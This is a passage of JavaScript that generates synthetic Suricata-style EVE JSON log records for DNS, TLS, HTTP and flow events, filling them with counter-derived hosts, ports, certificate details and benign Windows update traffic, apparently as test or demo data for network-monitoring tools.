          : `"dns":{"version":3,"type":"response","tx_id":0,"id":${f % 65536},"flags":"8180","qr":true,"rd":true,"ra":true,"opcode":0,"rcode":"NOERROR","queries":[{"rrname":"${p.host}","rrtype":"A"}],"answers":[{"rrname":"${p.host}","rrtype":"A","ttl":${60 + (f % 3540)},"rdata":"${p.dest}"}],"grouped":{"A":["${p.dest}"]}},"host":"${p.sensor.name}"}`)
      );
    case 'tls':
      return (
        head +
        `"src_ip":"${p.src}","src_port":${p.srcPort},"dest_ip":"${p.dest}","dest_port":443,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:${p.community}=",` +
        `"tls":{"subject":"CN=${p.host}","issuerdn":${JSON.stringify(p.issuer)},"serial":"33:00:${(f % 256).toString(16).padStart(2, '0').toUpperCase()}:5E:41:9C:7A:0B:2D:11:4F","fingerprint":"5d:${(f % 251).toString(16).padStart(2, '0')}:a1:9e:4f:c2:7b:30:88:1d:e6:0a:73:b4:5c:12:9f:d8:e2:41","sni":"${p.host}","version":"TLS 1.3","notbefore":"2026-01-12T08:14:55","notafter":"2026-07-11T08:14:55","ja3":{"hash":"cd08e31494f9531f560d64c695473da9","string":"771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513-21,29-23-24,0"},"ja3s":{"hash":"f4febc55ea12b31ae17cfb7e614afda8","string":"771,4865,51-43"}},"host":"${p.sensor.name}"}`
      );
    case 'http':
      return (
        head +
        `"src_ip":"${p.src}","src_port":${p.srcPort},"dest_ip":"${p.dest}","dest_port":80,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:${p.community}=","tx_id":0,` +
        `"http":{"hostname":"${p.host}","url":"/${f % 3 === 0 ? 'connecttest.txt' : f % 3 === 1 ? 'msdownload/update/v3/static/trustedr/en/authrootstl.cab' : 'ocsp'}","http_user_agent":"Microsoft-CryptoAPI/10.0","http_content_type":"application/octet-stream","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":${200 + (f % 60000)}},"host":"${p.sensor.name}"}`
      );
    default: {
      const startMs = p.ms - 2000 - (f % 300000);
      return (
        head +
        `"src_ip":"${p.src}","src_port":${p.srcPort},"dest_ip":"${p.dest}","dest_port":443,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:${p.community}=","app_proto":"tls",` +
        `"flow":{"pkts_toserver":${10 + (f % 400)},"pkts_toclient":${12 + (f % 600)},"bytes_toserver":${1800 + (f % 90000)},"bytes_toclient":${4200 + (f % 900000)},"start":"${eveTime(p.sensor, startMs, 0)}","end":"${ts}","age":${Math.round((p.ms - startMs) / 1000)},"state":"closed","reason":"timeout","alerted":false},` +
        `"tcp":{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed","ts_max_regions":1,"tc_max_regions":1},"host":"${p.sensor.name}"}`
      );
    }
  }
}
